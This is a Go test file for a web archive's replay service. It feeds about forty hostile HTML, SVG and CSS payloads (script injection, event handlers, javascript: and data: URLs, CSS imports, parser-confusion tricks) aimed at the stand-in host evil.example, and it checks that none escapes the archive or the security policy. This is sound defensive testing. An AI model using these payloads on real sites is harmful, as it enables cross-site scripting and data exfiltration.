package replay_test

import (
	"encoding/xml"
	"errors"
	"io"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// evil is what every attack wants to reach; the application's origin is another.
const evil = "evil.example"

// attacks are pages that try to get out, and what each tries.
var attacks = map[string]string{
	"a plain request":             `<img src="http://evil.example/a">`,
	"without a scheme":            `<img src="//evil.example/a"><img src="\\evil.example/b"><img src="/\evil.example/c">`,
	"the application's origin":    `<img src="http://ibid.example:8470/api/v1/x"><form action="http://ibid.example:8470/save" method=post><input name=url></form><script>document.forms[0].submit()</script>`,
	"white space in the scheme":   "<a href=\" \x01ht\ntp://evil.example/\">x</a><img src='h\tttps:evil.example'>",
	"a script as an address":      `<a href="JaVa&Tab;Script:location='http://evil.example/'">x</a><iframe src="javascript:alert(1)"></iframe><a href="vbscript:x">y</a>`,
	"a page as data":              `<iframe src="data:text/html,<img src=http://evil.example/>"></iframe><object data="data:text/html;base64,PGltZz4="></object><a href="data:text/html,x">x</a>`,
	"handlers":                    `<body onload="fetch('http://evil.example/')"><svg onload=alert(1)><img src=x onerror="new Image().src='http://evil.example'">`,
	"scripts":                     `<script src=http://evil.example/x.js></script><script>fetch("http://evil.example/")</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://evil.example/"]}]}</script>`,
	"a base":                      `<base href="http://evil.example/"><base target=_top><img src="x">`,
	"refreshing":                  `<meta http-equiv=refresh content="0;url=http://evil.example/"><meta http-equiv="Refresh" content="0; data:text/html,x"><meta http-equiv=refresh content='1;"http://evil.example/"'>`,
	"a policy of its own":         `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url>`,
	"links of every kind":         `<link rel=preload as=image href=http://evil.example/a><link rel="dns-prefetch stylesheet" href=//evil.example><link rel=stylesheet href=http://evil.example/s.css><link rel=manifest href=http://evil.example/m><link rel=icon href=http://evil.example/i imagesrcset="http://evil.example/z 2x">`,
	"a style":                     `<style>@import "http://evil.example/a.css"; @import url(//evil.example/b.css); p { background: u\72l(http://evil.example/c); content: url("http://evil.example/\"d") } </style>`,
	"a style with a comment":      `<style>@import/**/"http://evil.example/a.css";/*</style><img src=http://evil.example/b>*/</style>`,
	"a style in an attribute":     `<p style="background:url(http://evil.example/a);list-style:URL( 'http://evil.example/b' )"><p style="background:image-set('http://evil.example/c' 1x)"><p style='background:\75rl(&quot;http://evil.example/d&quot;)'>`,
	"a style in a picture":        `<svg><style>@import "&#104;ttp://evil.example/a"; * { fill: u&#114;l(http://evil.example/b) }</style></svg>`,
	"markup in a style":           `<svg><style><img src=http://evil.example/a></style></svg><math><style><img src=http://evil.example/b></style></math>`,
	"markup in a title":           `<svg><title><img src=http://evil.example/a></title><desc><img src=http://evil.example/b></desc><foreignObject><img src=http://evil.example/c></foreignObject></svg>`,
	"markup in text":              `<textarea><img src=http://evil.example/a></textarea><xmp><img src=http://evil.example/b></xmp><noembed><img src=http://evil.example/c></noembed><noframes><img src=http://evil.example/d></noframes><noscript><p title="</noscript><img src=http://evil.example/e>"></noscript>`,
	"markup that changes":         `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://evil.example/a&gt;">`,
	"the end of plain text":       `<plaintext><img src=http://evil.example/a></plaintext><img src=http://evil.example/b>`,
	"comments":                    `<!--><img src=http://evil.example/a>--><!--[if IE]><img src=http://evil.example/b><![endif]--><![CDATA[<img src=http://evil.example/c>]]><?x <img src=http://evil.example/d>?><!x "<img src=http://evil.example/e>">`,
	"odd names":                   `<img/src=http://evil.example/a/onerror=x><img src=x "<img src=http://evil.example/b>"><a<img src=http://evil.example/c>><img ` + "`src=http://evil.example/d`" + ` x="><img src=http://evil.example/e>">`,
	"an attribute twice":          `<img src="a" src="http://evil.example/b"><img SRC=http://evil.example/c>`,
	"many pictures":               `<img srcset="http://evil.example/a 1x,//evil.example/b,c 2x 3y, http://evil.example/d, ,"><picture><source srcset=http://evil.example/e></picture><img srcset="a,http://evil.example/f 1x">`,
	"a page in an attribute":      `<iframe srcdoc="<img src=http://evil.example/a><script>x()</script><iframe srcdoc='&lt;img src=http://evil.example/b&gt;'></iframe>"></iframe>`,
	"moving pictures":             `<svg><a><animate attributeName=href to="http://evil.example/a" values="javascript:x;http://evil.example/b"/><set attributeName=xlink:href to=http://evil.example/c /></a><image xlink:href=http://evil.example/d /><use href="http://evil.example/e#x"/><feImage href=http://evil.example/f /></svg>`,
	"painted from elsewhere":      `<svg><rect fill="url(http://evil.example/a#x)" filter="url('http://evil.example/b')" mask=url(//evil.example/c) marker-end="url(http://evil.example/d)"/></svg>`,
	"windows and frames":          `<a href=http://evil.example/ target=_top>x</a><a href=http://evil.example/ target=_blank ping=http://evil.example/p>y</a><form action=http://evil.example/ target=_parent><button formaction=http://evil.example/ formtarget=_top>z</form>`,
	"old elements":                `<body background=http://evil.example/a><table background=//evil.example/b><applet codebase=http://evil.example/ code=x archive=http://evil.example/c></applet><embed src=http://evil.example/d><object classid="http://evil.example/e" data=http://evil.example/f><param name=src value=http://evil.example/g></object><bgsound src=http://evil.example/h><img dynsrc=http://evil.example/i lowsrc=http://evil.example/j><input type=image src=http://evil.example/k><frameset><frame src=http://evil.example/l></frameset>`,
	"media":                       `<video src=http://evil.example/a poster=http://evil.example/b><track src=http://evil.example/c></video><audio><source src=http://evil.example/d></audio><portal src=http://evil.example/e></portal>`,
	"a user in an address":        `<img src="http://a.example@evil.example/a"><img src="http://evil.example:80\@a.example/">`,
	"an address that is ours":     `<img src="/web/2009/http://evil.example/a"><img src="../../../../http://evil.example/b"><a href="/api/v1/x">z</a>`,
	"bytes that are no text":      "<img src=\"http://evil.example/\x00a\"><img\x00src=http://evil.example/b><scr\x00ipt src=http://evil.example/c></script>",
	"an end without a beginning":  `</p></script></style></svg><img src=http://evil.example/a></xmp>`,
	"a tag without an end":        `<p>text<img src="http://evil.example/a`,
	"ten thousand attributes":     "<img" + strings.Repeat(" a=b", 10_000) + " src=http://evil.example/a>",
	"deep nesting":                strings.Repeat("<div><svg>", 5000) + "<img src=http://evil.example/a>",
	"attributes of many prefixes": `<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://evil.example/a"/><a y:href="http://evil.example/b"/></svg>`,
}

func TestAttacksStayInTheArchive(t *testing.T) {
	for name, page := range attacks {
		t.Run(name, func(t *testing.T) {
			for _, mime := range []string{"text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"} {
				h := &held{}
				h.add(t, "http://a.example/dir/page", "20090604120000", mime, page)
				res := ask(t, service(t, h, nil), replayHost, "/web/20090604120000/http://a.example/dir/page")
				got := text(t, res)
				if strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") {
					insideHTML(t, got)
				} else {
					insideXML(t, got)
				}
				guarded(t, res.Header)
			}
		})
	}
}

// guarded is what no memento is sent without.
func guarded(t *testing.T, h map[string][]string) {
	t.Helper()
	csp := strings.Join(h["Content-Security-Policy"], "")
	for _, part := range []string{"; sandbox", "script-src 'none'", "default-src 'self' http://" + replayHost + " data: blob:", "form-action 'none'", "base-uri 'none'", "connect-src 'none'", "object-src 'none'", "worker-src 'none'", "frame-ancestors 'self' http://" + replayHost + " http://" + appHost} {
		if !strings.Contains(csp, part) {
			t.Errorf("the policy lacks %q: %s", part, csp)
		}
	}
	if strings.Contains(csp, "allow-") || len(h["Content-Security-Policy"]) != 1 {
		t.Errorf("the policy allows something: %s", csp)
	}
}

// insideHTML parses a page as browsers do, with scripts and without, and looks at every attribute and style sheet.
func insideHTML(t *testing.T, page string) {
	t.Helper()
	for _, scripting := range []bool{false, true} {
		root, err := html.ParseWithOptions(strings.NewReader(page), html.ParseOptionEnableScripting(scripting))
		if err != nil {
			continue // nested too deeply for this parser
		}
		for n := range root.Descendants() {
			switch {
			case n.Type == html.ElementNode && (n.Data == "script" || n.Data == "base"):
				t.Errorf("<%s> is there: %s", n.Data, page)
			case n.Type == html.TextNode && n.Parent.Data == "style":
				insideCSS(t, n.Data)
			}
			for _, a := range n.Attr {
				insideAttribute(t, a.Key, a.Val)
			}
		}
	}
}

func insideXML(t *testing.T, doc string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(doc))
	d.Strict = false
	style := false
	for {
		token, err := d.RawToken()
		if err != nil {
			if !errors.Is(err, io.EOF) {
				t.Logf("not well-formed, so nothing is shown: %v", err)
			}
			return
		}
		switch token := token.(type) {
		case xml.ProcInst:
			if token.Target != "xml" {
				t.Errorf("an instruction %s", token.Target)
			}
		case xml.StartElement:
			style = strings.EqualFold(token.Name.Local, "style")
			if strings.EqualFold(token.Name.Local, "script") {
				t.Errorf("a script: %s", doc)
			}
			for _, a := range token.Attr {
				if a.Name.Space != "xmlns" {
					insideAttribute(t, strings.ToLower(a.Name.Local), a.Value)
				}
			}
		case xml.CharData:
			if style {
				insideCSS(t, string(token))
			}
		}
	}
}

// insideAttribute finds addresses that leave, in attributes that browsers ask for and in all others that look like it.
func insideAttribute(t *testing.T, key, value string) {
	t.Helper()
	if strings.HasPrefix(key, "xmlns") {
		return
	}
	switch key {
	case "title", "alt", "x", "value", "xmlns", "name":
		return // text
	case "style", "fill", "filter", "mask", "marker-end":
		insideCSS(t, value)
		return
	case "srcdoc":
		insideHTML(t, value)
		return
	case "srcset", "imagesrcset":
		for part := range strings.SplitSeq(value, ", ") {
			insideAddress(t, strings.Fields(part)[0])
		}
		return
	case "content":
		_, value, _ = strings.Cut(value, "url=")
	}
	if strings.HasPrefix(key, "on") || key == "target" || key == "ping" {
		t.Errorf("%s=%q", key, value)
	}
	insideAddress(t, value)
}

func insideAddress(t *testing.T, value string) {
	t.Helper()
	base, err := url.Parse("http://" + replayHost + "/web/20090604120000/http://a.example/dir/page")
	if err != nil {
		t.Fatal(err)
	}
	value = strings.NewReplacer("\t", "", "\n", "", "\r", "", `\`, "/").Replace(strings.TrimSpace(value))
	u, err := base.Parse(value)
	if err != nil {
		t.Errorf("%q is no address: %v", value, err)
		return
	}
	if u.Scheme == "about" || u.Scheme == "data" && strings.HasPrefix(u.Opaque, "image/") {
		return
	}
	// An address below /web/ or, of an attribute that is none, a word beside the page.
	if u.Scheme != "http" || u.Host != replayHost || !strings.HasPrefix(u.Path, "/web/") {
		t.Errorf("%q leads to %s", value, u)
	}
}

// insideCSS looks for addresses in a style sheet whose escapes are undone, with strings and comments: in none of them does
// anything stand that could be one.
func insideCSS(t *testing.T, css string) {
	t.Helper()
	rest := css
	for {
		i := strings.Index(rest, evil)
		if i < 0 {
			return
		}
		before := rest[:i]
		// Behind anything else than these it is no address.
		if j := strings.LastIndexAny(before, `"'( =`); j >= 0 && strings.IndexByte(`"'(`, before[j]) >= 0 && !strings.HasPrefix(before[j+1:], "/web/20090604120000/") {
			t.Errorf("a style sheet leads out: %s", css)
			return
		}
		rest = rest[i+len(evil):]
	}
}
